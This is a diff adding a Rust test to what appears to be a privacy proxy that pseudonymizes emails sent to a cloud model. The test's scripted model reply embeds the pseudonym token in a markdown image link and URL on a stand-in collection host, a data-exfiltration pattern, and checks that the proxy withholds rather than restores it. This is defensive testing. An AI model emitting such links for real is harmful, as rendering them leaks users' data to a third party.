@@ -175,3 +175,39 @@ async fn tokens_of_others_are_left_alone() {
     let counts: Vec<_> = outcomes.iter().map(|outcome| (&outcome["restored"], &outcome["foreign_tokens"])).collect();
     assert_eq!(format!("{counts:?}"), "[(Number(1), Number(0)), (Number(1), Number(1)), (Number(1), Number(1))]");
 }
+
+/// Pseudonyms in addresses stay as they are, where a value could be carried off by a client that follows them; the record
+/// says how many.
+#[tokio::test(flavor = "multi_thread")]
+async fn pseudonyms_in_addresses_are_left_and_counted() {
+    let mut plot = Plot::new().await;
+    let says =
+        |said: &str| format!("{said}, see ![x](https://collect.example/?q={said}) and https://collect.example/{said}");
+    let server = plot
+        .script("us-cloud", move |asked| {
+            let says = says(&asked.said());
+            if asked.json()["stream"] == true {
+                return vec![scripted::stream(), chunk(delta(&says)), chunk("data: [DONE]\n\n"), chunk("")];
+            }
+            let message = serde_json::json!({"role": "assistant", "content": says});
+            let choices = serde_json::json!([{"index": 0, "message": message, "finish_reason": "stop"}]);
+            scripted::json("200 OK", "", &serde_json::json!({"id": "c", "choices": choices}).to_string())
+        })
+        .await;
+    plot.only(&["us-cloud"]);
+    let house = plot.open().await;
+    for stream in [false, true] {
+        let answer = house.client.chat(EMAIL, stream).await;
+        let token = server.asked().pop().unwrap().said();
+        assert_eq!(
+            (answer.body.matches(EMAIL).count(), answer.body.matches(&token).count()),
+            (1, 2),
+            "{}",
+            answer.body
+        );
+    }
+    for outcome in house.outcomes(2).await {
+        assert_eq!((&outcome["restored"], &outcome["withheld_tokens"]), (&1.into(), &2.into()), "{outcome}");
+    }
+    assert!(house.app.gate().telemetry.page().contains("octroi_withheld_tokens_total 4"));
+}
